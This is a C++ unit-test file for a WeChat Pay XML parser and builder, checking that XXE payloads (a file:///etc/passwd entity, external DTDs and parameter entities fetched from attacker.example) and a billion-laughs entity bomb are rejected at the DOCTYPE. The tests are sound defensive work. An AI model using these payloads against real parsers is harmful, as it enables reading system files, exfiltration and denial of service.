#include "core/error.hpp"
#include "gateways/wechatpay/xml.hpp"
#include "tests/unit/wechatpay/result_printer.hpp"

#include <doctest/doctest.h>

#include <string>

using paybridge::errc;
using paybridge::gateways::wechatpay::build_flat_xml;
using paybridge::gateways::wechatpay::kMaxXmlBytes;
using paybridge::gateways::wechatpay::kMaxXmlFields;
using paybridge::gateways::wechatpay::parse_flat_xml;
using paybridge::gateways::wechatpay::XmlField;

namespace {

/// The reason a document is rejected ("" when it parses).
std::string rejection(std::string_view doc, std::string_view root = "xml")
{
    std::string why;
    auto r = parse_flat_xml(doc, root, &why);
    if (r) {
        return "";
    }
    CHECK(r.error() == errc::malformed_request);
    return why;
}

}  // namespace

TEST_CASE("xml: a flat document with CDATA and entities and character references")
{
    const std::string doc =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
        "<xml>\n  <appid><![CDATA[wx2421b1c4370ec43b]]></appid>\n"
        "  <attach><![CDATA[支付测试]]></attach>\n"
        "  <total_fee>1</total_fee>\n"
        "  <mixed>a &amp; b &lt;c&gt; &#x4E2D;<![CDATA[ & <raw> ]]>tail</mixed>\n"
        "  <empty></empty><selfclosed/>\n"
        "  <!-- a comment is harmless -->\n"
        "</xml>";
    auto fields = parse_flat_xml(doc, "xml");
    REQUIRE(fields);
    CHECK(fields->size() == 6);
    CHECK(fields->at("appid") == "wx2421b1c4370ec43b");
    CHECK(fields->at("attach") == "支付测试");
    CHECK(fields->at("total_fee") == "1");
    CHECK(fields->at("mixed") == "a & b <c> 中 & <raw> tail");
    CHECK(fields->at("empty").empty());
    CHECK(fields->at("selfclosed").empty());
}

TEST_CASE("xml: XXE is rejected at the DOCTYPE before any entity is declared or loaded")
{
    const std::string xxe =
        "<?xml version=\"1.0\"?>\n"
        "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
        "<xml><appid>&xxe;</appid></xml>";
    CHECK(rejection(xxe) == "doctype");

    const std::string external_dtd = "<!DOCTYPE xml SYSTEM \"http://attacker.example/evil.dtd\"><xml><a>1</a></xml>";
    CHECK(rejection(external_dtd) == "doctype");

    const std::string parameter_entity =
        "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"http://attacker.example/x\"> %remote;]><xml/>";
    CHECK(rejection(parameter_entity) == "doctype");

    // Without a DTD, an entity reference is simply undefined: never resolved, never fetched.
    CHECK_FALSE(rejection("<xml><appid>&xxe;</appid></xml>").empty());
}

TEST_CASE("xml: billion laughs is rejected without expansion")
{
    std::string doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n";
    for (int i = 1; i <= 9; ++i) {
        doc += " <!ENTITY lol" + std::to_string(i) + " \"";
        for (int j = 0; j < 10; ++j) {
            doc += i == 1 ? "&lol;" : "&lol" + std::to_string(i - 1) + ";";
        }
        doc += "\">\n";
    }
    doc += "]>\n<xml><appid>&lol9;</appid></xml>";
    // Rejected at the DOCTYPE, before the first entity is declared: nothing is expanded. (How fast
    // that is, is for the benchmarks.)
    CHECK(rejection(doc) == "doctype");
}

TEST_CASE("xml: shapes other than a flat document are rejected")
{
    CHECK(rejection("<xml><a>1</a><a>2</a></xml>") == "duplicate element");
    CHECK(rejection("<xml><a><b>1</b></a></xml>") == "nested element");
    CHECK(rejection("<xml><a id=\"1\">1</a></xml>") == "attribute");
    CHECK(rejection("<xml x=\"1\"><a>1</a></xml>") == "attribute");
    CHECK(rejection("<root><a>1</a></root>") == "unexpected root element");
    CHECK(rejection("<xml>stray<a>1</a></xml>") == "text outside elements");
    CHECK(rejection("<xml><?php echo 1; ?><a>1</a></xml>") == "processing instruction");
    CHECK_FALSE(rejection("<xml><a>1</a>").empty());                 // not closed
    CHECK_FALSE(rejection("<xml><a>1</a></xml><xml/>").empty());     // two roots
    CHECK_FALSE(rejection("<xml><a>\xff\xfe</a></xml>").empty());    // not UTF-8
    CHECK_FALSE(rejection(std::string("<xml><a>1\0</a></xml>", 20)).empty());
    CHECK_FALSE(rejection("").empty());
    CHECK_FALSE(rejection("just text").empty());
    // The declared encoding cannot switch the parser away from UTF-8: bytes are read as UTF-8.
    auto latin = parse_flat_xml("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><xml><a>\xe4\xb8\xad</a></xml>", "xml");
    REQUIRE(latin);
    CHECK(latin->at("a") == "\xe4\xb8\xad");
}

TEST_CASE("xml: size and field-count caps")
{
    std::string big = "<xml><a>" + std::string(kMaxXmlBytes, 'x') + "</a></xml>";
    CHECK(rejection(big) == "document too large");

    std::string many = "<xml>";
    for (std::size_t i = 0; i <= kMaxXmlFields; ++i) {
        many += "<f" + std::to_string(i) + ">1</f" + std::to_string(i) + ">";
    }
    many += "</xml>";
    CHECK(rejection(many) == "too many elements");
}

TEST_CASE("xml: build_flat_xml round-trips any value including a CDATA terminator")
{
    const std::vector<XmlField> fields{{"return_code", "SUCCESS"},
                                       {"tricky", "a]]>b]]>]]>c<&>"},
                                       {"total_fee", "100", false},
                                       {"escaped", "<&>", false},
                                       {"empty", ""}};
    const std::string doc = build_flat_xml("xml", fields);
    CHECK(doc.starts_with("<xml><return_code><![CDATA[SUCCESS]]></return_code>"));
    CHECK(doc.find("<total_fee>100</total_fee>") != std::string::npos);
    CHECK(doc.find("<escaped>&lt;&amp;&gt;</escaped>") != std::string::npos);
    auto parsed = parse_flat_xml(doc, "xml");
    REQUIRE(parsed);
    for (const auto& f : fields) {
        CAPTURE(f.name);
        CHECK(parsed->at(f.name) == f.value);
    }
}
